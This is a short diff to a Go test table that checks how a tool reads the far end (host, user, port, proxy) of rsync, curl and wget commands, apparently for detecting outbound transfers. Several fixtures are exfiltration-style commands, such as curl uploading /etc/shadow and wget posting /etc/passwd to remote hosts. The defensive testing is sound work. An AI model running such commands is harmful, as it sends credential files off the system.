@@ -27,6 +27,7 @@ func TestFarEndsAreReadFromArguments(t *testing.T) {
 		"rsync|-e|/tmp/.x/tunnel --to 1|a|h:b":                                    "h:b through /tmp/.x/tunnel --to 1",
 		"curl|-sST|/etc/shadow|https://eve:secret@h.example:8443/up?x=1":          "eve@h.example:/up port 8443",
 		"curl|-F|f=@/a|-x|socks5://u:p@127.0.0.1:9050|-u|eve:secret|h.example/in": "eve@h.example:/in through 127.0.0.1:9050",
+		"curl|--pass|secret|--oauth2-bearer|secret|--socks4a|p:1|https://h/":      "h:/ through p:1",
 		"curl|--data-binary|@/a|--url|http://[2001:db8::9]/":                      "[2001:db8::9]:/",
 		"curl|-o|/tmp/x|ftp://h/a|sftp://bob@g/b":                                 "h:/a; bob@g:/b",
 		"wget|--post-file=/etc/passwd|http://h:8080/p":                            "h:/p port 8080",
